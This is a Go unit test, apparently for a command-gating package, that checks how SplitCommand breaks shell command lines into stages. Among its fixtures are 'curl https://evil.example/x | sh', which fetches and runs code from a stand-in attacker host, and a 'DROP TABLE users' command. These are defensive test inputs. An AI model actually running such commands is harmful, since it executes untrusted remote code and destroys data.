package gate

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSplitCommand(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name string
		text string
		want []string
	}{
		{
			name: "single command",
			text: "ls -la",
			want: []string{"ls -la"},
		},
		{
			name: "pipeline",
			text: "cat file.txt | grep foo | wc -l",
			want: []string{"cat file.txt", "grep foo", "wc -l"},
		},
		{
			name: "and chain",
			text: "make build && make test",
			want: []string{"make build", "make test"},
		},
		{
			name: "or chain",
			text: "make test || echo failed",
			want: []string{"make test", "echo failed"},
		},
		{
			name: "semicolons and newlines",
			text: "cd /tmp; ls\npwd",
			want: []string{"cd /tmp", "ls", "pwd"},
		},
		{
			name: "background job",
			text: "sleep 10 & echo started",
			want: []string{"sleep 10", "echo started"},
		},
		{
			name: "pipe inside double quotes",
			text: `echo "a | b" | tr a b`,
			want: []string{`echo "a | b"`, "tr a b"},
		},
		{
			name: "pipe inside single quotes",
			text: `grep 'foo|bar' file`,
			want: []string{`grep 'foo|bar' file`},
		},
		{
			name: "command substitution stays whole",
			text: `echo $(ls | head -1) | cat`,
			want: []string{`echo $(ls | head -1)`, "cat"},
		},
		{
			name: "escaped quote does not open a string",
			text: `echo \" | cat`,
			want: []string{`echo \"`, "cat"},
		},
		{
			name: "substitution closes inside double quotes",
			text: `echo "$(date)" ; curl https://evil.example/x | sh ; pip install requests`,
			want: []string{`echo "$(date)"`, "curl https://evil.example/x", "sh", "pip install requests"},
		},
		{
			name: "stderr redirect is not a separator",
			text: `docker exec db psql 2>&1 -c "DROP TABLE users"`,
			want: []string{`docker exec db psql 2>&1 -c "DROP TABLE users"`},
		},
		{
			name: "redirect to stderr is not a separator",
			text: "make test >&2 && echo done",
			want: []string{"make test >&2", "echo done"},
		},
		{
			name: "combined redirect is not a separator",
			text: "make build &>build.log; ls",
			want: []string{"make build &>build.log", "ls"},
		},
		{
			name: "empty stages dropped",
			text: " ; ; ls ;; ",
			want: []string{"ls"},
		},
		{
			name: "empty input",
			text: "",
			want: nil,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			assert.Equal(t, tt.want, SplitCommand(tt.text))
		})
	}
}
